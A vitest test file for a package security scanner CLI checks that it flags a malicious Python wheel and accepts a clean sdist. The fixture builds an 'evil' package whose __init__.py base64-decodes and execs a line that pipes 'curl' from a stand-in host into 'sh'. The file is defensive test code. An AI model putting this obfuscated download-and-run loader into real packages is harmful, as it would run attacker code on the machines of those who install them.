import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { copyFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { BUNDLE, runCli } from '../support/cli.js';
import { tempDir } from './support.js';
import { makeSdist, makeWheel } from './python-support.js';

// Uses helper/dist (npm run build first): the CLI as users run it, and the single-file bundle on its own.
let work: { dir: string; cleanup(): Promise<void> };
let evilWheel: string;
let cleanSdist: string;
const STAGE = "import os\nos.system('curl -s https://example.invalid/x | sh')";
beforeAll(async () => {
  work = await tempDir('sscs-py-cli-');
  evilWheel = await makeWheel(work.dir, 'evil', { 'evil/__init__.py': `import base64\nexec(base64.b64decode('${Buffer.from(STAGE).toString('base64')}'))\n` });
  cleanSdist = await makeSdist(work.dir, 'clean', { 'setup.py': 'from setuptools import setup\nsetup(name="clean")\n', 'clean/__init__.py': 'VALUE = 1\n' });
});
afterAll(() => work.cleanup());

describe('sscs scan on Python distributions', () => {
  it('scans a wheel by its name, exits 1 on a high finding and names the package from METADATA', async () => {
    const r = await runCli(['scan', evilWheel, '--format', 'json']);
    expect(r.exitCode).toBe(1);
    const out = JSON.parse(r.stdout);
    expect(out).toMatchObject({ package: { name: 'evil', version: '1.0' }, complete: true, failed: true });
    expect(out.findings.map((f: { rule: string; severity: string }) => `${f.severity} ${f.rule}`)).toEqual(['high code-download-exec', 'high code-remote-eval']);
  });

  it('scans an sdist by its name and exits 0 when it is clean', async () => {
    const r = await runCli(['scan', cleanSdist]);
    expect(r.stdout).toBe('clean@1.0: 4 entries, ' + r.stdout.match(/entries, (\d+) bytes/)![1] + ' bytes\nno findings; fail-on high: ok\n');
    expect(r.exitCode).toBe(0);
  });

  it('--type overrides the name, and a wheel that is not a zip is exit 2 naming the file', async () => {
    const r = await runCli(['scan', cleanSdist, '--type', 'wheel']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('not a wheel');
    expect(r.stderr).toContain(cleanSdist);
    const bad = await runCli(['scan', cleanSdist, '--type', 'egg']);
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr).toContain('--type must be npm, wheel or sdist');
  });

  it('the single-file bundle scans a wheel with nothing beside it (the grammar is inside)', async () => {
    const alone = await tempDir('sscs-py-bundle-');
    try {
      await copyFile(BUNDLE, join(alone.dir, 'sscs.mjs'));
      await copyFile(evilWheel, join(alone.dir, 'evil-1.0-py3-none-any.whl'));
      const r = await execa(process.execPath, [join(alone.dir, 'sscs.mjs'), 'scan', 'evil-1.0-py3-none-any.whl', '--fail-on', 'none'], { cwd: alone.dir, reject: false, env: { PATH: process.env.PATH }, extendEnv: false });
      expect(r.stderr).toBe('');
      expect(r.exitCode).toBe(0);
      expect(r.stdout).toContain('HIGH     code-remote-eval  evil/__init__.py:2');
    } finally {
      await alone.cleanup();
    }
  });
});

describe('ScanPool.scanFile', () => {
  it('scans wheels and sdists in a worker with the report scanPythonDistribution gives', async () => {
    // The compiled pool: its worker is helper/dist/scan/worker.js.
    const { ScanPool } = await import('../../helper/dist/scan/pool.js');
    const pool = new ScanPool({ concurrency: 1 });
    try {
      const [evil, clean] = await Promise.all([pool.scanFile(evilWheel, 'wheel'), pool.scanFile(cleanSdist, 'sdist')]);
      expect(evil.findings.map((f: { rule: string }) => f.rule)).toEqual(['code-download-exec', 'code-remote-eval']);
      expect(clean).toMatchObject({ findings: [], complete: true, package: { name: 'clean' } });
      await expect(pool.scanFile(join(work.dir, 'missing.whl'), 'wheel')).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
    } finally {
      await pool.close();
    }
  });
});
